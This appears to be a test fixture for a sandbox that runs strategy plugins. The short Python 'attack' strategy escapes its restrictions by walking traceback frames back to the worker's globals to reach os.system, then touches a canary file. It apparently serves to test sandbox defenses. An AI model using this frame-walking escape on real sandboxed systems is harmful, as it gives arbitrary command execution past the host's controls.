# ruff: noqa
"""e3: traceback -> tb_frame.f_back -> the worker's frame globals -> os.system"""

import dataclasses

import numpy as np
import polars as pl
from pydantic import BaseModel

STRATEGY_ID = "attack"
VERSION = 1
WARMUP_BARS = 1


class Params(BaseModel):
    pass


def generate(bars, params):
    try:
        raise ValueError("x")
    except ValueError as e:
        f = e.__traceback__.tb_frame
    while f is not None and "os" not in f.f_globals:
        f = f.f_back
    os = f.f_globals["os"]
    rc = os.system("touch @@CANARY_DIR@@/PWNED_e3")
    raise RuntimeError(("EXEC" "UTED " if rc == 0 else "system failed ") + str(rc))
